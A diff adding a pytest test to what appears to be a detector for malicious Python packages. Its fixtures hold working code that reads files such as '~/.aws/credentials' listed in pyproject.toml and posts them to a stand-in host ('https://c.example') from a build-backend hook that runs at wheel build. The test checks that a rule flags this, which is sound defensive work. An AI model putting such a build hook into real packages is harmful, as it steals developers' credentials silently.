@@ -104,3 +104,31 @@ def test_a_group_that_takes_too_long_is_cut_short_and_says_so() -> None:
     )
     assert [module.path for module in told] == ["demo/a.py"]
     assert told[0].stopped.startswith("too much to follow")
+
+
+_COLLECTS = (
+    "import os, tomllib, urllib.request\n"
+    "with open('pyproject.toml', 'rb') as opened:\n"
+    "    table = tomllib.load(opened)['tool']\n"
+    "def gathered():\n"
+    "    for one in table['files']:\n"
+    "        with open(os.path.expanduser(one), 'rb') as kept:\n"
+    "            yield kept.read()\n"
+    "def passed_on():\n"
+    "    for data in gathered():\n"
+    "        urllib.request.urlopen(urllib.request.Request(table['to'] + '/x', data=data))\n"
+)
+_BACKEND = "[build-system]\nrequires = []\nbuild-backend = 'own'\nbackend-path = ['_build']\n"
+_HOOK = "def get_requires_for_build_wheel(settings=None):\n    passed_on()\n    return []\n"
+
+
+@pytest.mark.parametrize(("listed", "accused"), [("~/.aws/credentials", True), ("docs/guide.md", False)])
+def test_the_table_by_which_a_build_collects_files_is_read_in_the_folder_that_it_runs_in(
+    tmp_path: Path, listed: str, accused: bool
+) -> None:
+    table = f"[tool]\nto = 'https://c.example'\nfiles = ['{listed}']\n"
+    backend = {"pyproject.toml": _BACKEND + table, "_build/own.py": _COLLECTS + _HOOK}
+    library = {"pyproject.toml": table, "demo/own.py": f"{_COLLECTS}passed_on()\n"}  # the folder is its user's
+    for name, files, finds in (("a", backend, accused), ("b", library, False)):
+        facts = looked(tmp_path / name, {"__init__": "", **{f"../{path}": text for path, text in files.items()}})
+        assert ("MLS-C010" in found(facts)) is finds
